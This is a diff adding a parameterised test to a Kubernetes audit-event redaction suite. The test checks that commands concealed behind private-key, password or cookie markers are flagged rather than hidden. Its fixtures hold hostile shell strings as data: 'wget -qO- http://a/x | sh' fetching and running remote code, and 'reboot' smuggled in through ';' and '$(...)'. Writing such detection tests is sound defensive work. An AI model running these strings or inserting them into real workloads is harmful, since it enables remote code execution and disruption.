@@ -532,6 +532,28 @@ describe('the body of an event', () => {
     ]);
   });
 
+  it.each([
+    [['sh', '-c', ': -----BEGIN PRIVATE KEY-----; wget -qO- http://a/x | sh'], true],
+    [['sh', '-c', ': -----BEGIN PRIVATE KEY-----\n/usr/bin/longprogram\n-----END PRIVATE KEY-----'], true],
+    [['sh', '-c', 'eval "$2"', 'x', '--password', 'wget -qO- http://a/x | sh'], true],
+    [['sh', '-c', ': --password x;reboot'], true],
+    [['sh', '-c', ': --password x$(reboot)'], true],
+    [['sh', '-c', 'Cookie: a\nreboot'], true],
+    [['sh', '-c', 'reboot', 'redis-cli', 'AUTH', 'a', 'b'], true],
+    [['app', '--password', 'hunter2'], false],
+    [['app', '--password=$(PASSWORD)'], false],
+    [['sh', '-c', 'mysql -p"$PASSWORD" -e "select 1; select 2" | cat'], false],
+    [['sh', '-c', 'TOKEN="$(cat /run/token)" app; PASSWORD=hunter2 b'], false],
+    [['sh', '-c', 'ls -l; id | cat'], false],
+  ])('with the command %j may hide a command: %j', (command, isHidden) => {
+    const info = parseRequestInfo('POST', parseTarget('/api/v1/namespaces/n/pods'));
+    for (const container of [{ command }, { livenessProbe: { exec: { command } } }]) {
+      const body = { spec: { containers: [container] } };
+      const { unread } = redactBody(info, utf8(JSON.stringify(body)), false);
+      expect(unread !== undefined, unread).toBe(isHidden);
+    }
+  });
+
   it('of a patch of single words is incomplete', () => {
     const path = '/spec/template/spec/containers/0/command/2';
     const info = parseRequestInfo('PATCH', parseTarget('/apis/apps/v1/namespaces/n/deployments/d'));
